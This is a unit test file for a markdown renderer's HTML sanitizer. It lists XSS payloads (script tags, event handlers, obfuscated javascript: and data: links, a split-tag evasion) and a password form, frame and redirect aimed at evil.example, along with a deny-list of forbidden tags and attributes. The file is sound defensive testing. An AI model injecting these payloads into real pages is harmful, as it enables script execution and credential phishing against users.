import { htmlOf, renderMarkdown } from '../../../tests/unit/markdown';

const ATTACKS = {
  'a script': '<script>alert(1)</script>',
  'a script in a paragraph': 'Soup <script>alert(1)</script> and bread',
  'a handler of a picture': '<img src="x.jpg" onerror="alert(1)">',
  'a handler of a paragraph': '<p onclick="alert(1)">Soup</p>',
  'a handler of an animation': '<details open ontoggle="alert(1)">Soup</details>',
  'a link to a script': '[Soup](javascript:alert(1))',
  'a link to a script as HTML': '<a href="javascript:alert(1)">Soup</a>',
  'a link to a script in upper case': '<a href="JaVaScRiPt:alert(1)">Soup</a>',
  'a link to a script with an entity': '<a href="javascript&colon;alert(1)">Soup</a>',
  'a link to a document as data': '<a href="data:text/html,<script>alert(1)</script>">Soup</a>',
  'a picture that is a script': '![Soup](javascript:alert(1))',
  'a picture as data': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'a frame': '<iframe src="https://evil.example"></iframe>',
  'an object': '<object data="https://evil.example/x.swf"></object>',
  'a style': '<p style="position:fixed;inset:0">Soup</p>',
  'a style sheet': '<style>body { display: none }</style>',
  'a form':
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  'a field outside of a form': '<input autofocus onfocus="alert(1)">',
  'a drawing with a script': '<svg><script>alert(1)</script></svg>',
  'a formula': '<math><mi xlink:href="javascript:alert(1)">Soup</mi></math>',
  'a base for all addresses': '<base href="https://evil.example">',
  'a redirect': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a template': '<template><script>alert(1)</script></template>',
  'a picture for browsers without scripts': '<noscript><img src=x onerror=alert(1)></noscript>',
  'an id and a name that the page uses': '<p id="content">Soup</p><a name="content">Soup</a>',
  'classes that the page uses': '<p class="fixed inset-0">Soup</p>',
  'a comment with a script': '<!--><script>alert(1)</script>-->',
  'a script tag with another one inside': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'the target of a link': '<a href="/pricing" target="_blank">Soup</a>',
};

const FORBIDDEN =
  'script, style, iframe, object, embed, link, meta, base, form, button, select, textarea, svg, math, template, noscript, input, [style], [srcdoc], [name], [target], [id], [class]';

test.each(Object.entries(ATTACKS))('removes %s', async (_name, markdown) => {
  const article = await renderMarkdown(markdown);
  expect(article.querySelectorAll(FORBIDDEN)).toHaveLength(0);
  const elements = [...article.querySelectorAll('*')];
  for (const { name, value } of elements.flatMap(({ attributes }) => [...attributes])) {
    expect(name).not.toMatch(/^on/i);
    expect(value).not.toMatch(/(?:java|vb)\s*script|^\s*data:/i);
  }
});

test('keeps the text around an attack', async () => {
  expect(await htmlOf(ATTACKS['a handler of a paragraph'])).toBe('<p>Soup</p>');
  expect(await htmlOf(ATTACKS['a script in a paragraph'])).toBe('<p>Soup  and bread</p>');
});

test.each([
  '<p>Press <kbd>Esc</kbd>, H<sub>2</sub>O<br>and <mark>soup</mark>.</p>',
  '<aside>Hot<wbr>pot <progress value="3" max="4"></progress></aside>',
])('keeps the harmless HTML %s', async (html) => {
  expect(await htmlOf(html)).toBe(html);
});

test.each([
  ['<a name="soup"></a>Soup', '<p><a id="soup"></a>Soup</p>'],
  ['<b id="soup">Soup</b> <i id="soup">Soup</i>', '<p><b id="soup">Soup</b> <i>Soup</i></p>'],
  ['<b id="fn-1">Soup</b>', '<p><b>Soup</b></p>'],
  ['[Soup](/pricing)', '<p><a href="/pricing">Soup</a></p>'],
  ['H~2~O and ~~struck~~', '<p>H~2~O and <del>struck</del></p>'],
  [
    '<https://a.example/b--c...d>',
    '<p><a href="https://a.example/b--c...d" rel="noopener">https://a.example/b--c...d</a></p>',
  ],
  [
    '<Https://a.example/b--c>',
    '<p><a href="https://a.example/b--c" rel="noopener">Https://a.example/b--c</a></p>',
  ],
  ['[a](HTTP://b.example)', '<p><a href="http://b.example" rel="noopener">a</a></p>'],
  ['[a][b]\n\n[b]: MailTo:c@d.example', '<p><a href="mailto:c@d.example">a</a></p>'],
  ['<a href=" Tel:+49123 ">a</a>', '<p><a href="tel:+49123">a</a></p>'],
  [
    '![a](HTTPS://b.example/C.jpg)',
    '<p><img src="https://b.example/C.jpg" alt="a" loading="lazy"></p>',
  ],
  ['<img src="Https://b" alt="a">', '<img src="https://b" alt="a" loading="lazy">'],
  [
    '“See https://a.example/b” now',
    '<p>“See <a href="https://a.example/b" rel="noopener">https://a.example/b</a>” now</p>',
  ],
  [
    'www.a.example’s soup',
    '<p><a href="http://www.a.example" rel="noopener">www.a.example</a>’s soup</p>',
  ],
  [
    '“https://a.example/b.”',
    '<p>“<a href="https://a.example/b" rel="noopener">https://a.example/b</a>.”</p>',
  ],
  [
    'https://a.example/b…',
    '<p><a href="https://a.example/b" rel="noopener">https://a.example/b</a>…</p>',
  ],
  ['ada@b.example’s', '<p><a href="mailto:ada@b.example">ada@b.example</a>’s</p>'],
  [
    'https://a.example/hawai’i and [https://b.example/”c](https://b.example/”c)',
    '<p><a href="https://a.example/hawai%E2%80%99i" rel="noopener">https://a.example/hawai’i</a> and <a href="https://b.example/%E2%80%9Dc" rel="noopener">https://b.example/”c</a></p>',
  ],
  ['> Soup.', '<blockquote>\n<p>Soup.</p>\n</blockquote>'],
  ['> [!PULLQUOTE]\n> Soup.', '<blockquote class="pull-quote">\n<p>Soup.</p>\n</blockquote>'],
  ['> [!PULLQUOTE]\n>\n> Soup.', '<blockquote class="pull-quote">\n\n<p>Soup.</p>\n</blockquote>'],
  [
    '> [!PULLQUOTE]\n> *Hot.*',
    '<blockquote class="pull-quote">\n<p><em>Hot.</em></p>\n</blockquote>',
  ],
  ['"*Soup*" `a`"b\n\n"c"', '<p>“<em>Soup</em>” <code>a</code>”b</p>\n<p>“c”</p>'],
  ['[a](/b//c) [d](//e)', '<p><a href="/b//c">a</a> <a href="//e" rel="noopener">d</a></p>'],
])('%s becomes %s', async (markdown, html) => {
  expect(await htmlOf(markdown)).toBe(html);
});
